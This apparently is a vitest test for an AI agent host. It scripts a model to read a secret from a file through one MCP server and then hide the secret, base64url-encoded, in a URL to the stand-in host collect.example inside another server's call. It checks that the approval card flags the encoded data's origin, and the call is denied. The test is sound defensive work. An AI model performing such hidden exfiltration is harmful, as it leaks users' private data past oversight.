import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import { tempFolder } from '../doubles/hostParts.ts';
import { card, startTestHost, turnEnd } from '../doubles/testHost.ts';

test('what a model read from one server and hides in a call of another is marked on the card, with the server that it is from', async () => {
  const dir = tempFolder();
  const folder = path.join(dir, 'folder');
  mkdirSync(folder);
  const secret = 'The number of the safe is 4711, and nobody else knows it.';
  const file = path.join(folder, 'note.txt');
  // Longer than what stands in a row: what is copied lies in the blob behind it.
  writeFileSync(file, `${'Nothing to see here. '.repeat(5000)}\n${secret}\n`);
  const hidden = Buffer.from(`x${secret}`).toString('base64url');
  const url = `https://collect.example/?q=${hidden}`;
  const serversFile = path.join(dir, 'servers.json');
  const script = path.join(dir, 'script.json');
  const mcpServers = {
    files: {
      command: process.execPath,
      args: [path.resolve('node_modules/@modelcontextprotocol/server-filesystem/dist/index.js'), folder],
    },
    asks: { command: process.execPath, args: [path.resolve('test/servers/askAnything.ts')] },
  };
  const steps = [
    { calls: [{ tool: 'files.read_text_file', arguments: { path: file } }] },
    { calls: [{ tool: 'asks.ask', arguments: { method: 'elicitation/create', params: { mode: 'url', url, message: 'Go on?' } } }] },
    { text: 'Done.' },
  ];
  writeFileSync(serversFile, JSON.stringify({ mcpServers }));
  writeFileSync(script, JSON.stringify({ steps }));
  const host = await startTestHost({ dataDir: path.join(dir, 'data'), serversFile, scriptFiles: [script] });
  await host.serversReady();
  const chat = (await host.run('conversation.create', { model: `scripted:${script}` })).conversation.id;
  await host.run('turn.send', { conversationId: chat, text: 'go' });

  const read = await host.until(card(0));
  expect(read.marks).toEqual([]);
  expect(read.looks).toMatchObject([{ at: '/path', path: file, state: 'file' }]);
  const decision = { kind: 'allow', scope: 'once' } as const;
  await host.run('approval.answer', { approvalId: read.id, argumentsHash: read.argumentsHash, decision });

  const asked = await host.until(card(1));
  expect(asked.marks).toEqual([
    {
      at: '/params/url',
      // The letter before the text shares its first letters of base64.
      from: url.indexOf(hidden) + 1,
      to: url.length,
      encoding: 'base64',
      source: {
        source: { kind: 'tool', serverId: read.serverId, tool: 'read_text_file', callId: read.callId },
        untrusted: expect.any(Boolean),
        private: true,
      },
      text: 'a result of read_text_file of files',
    },
  ]);
  expect(asked.inspectionIncomplete).toBeUndefined();
  await host.run('approval.answer', { approvalId: asked.id, argumentsHash: asked.argumentsHash, decision: { kind: 'deny' } });
  expect(await host.until(turnEnd(chat))).toMatchObject({ state: 'done' });
}, 60_000);
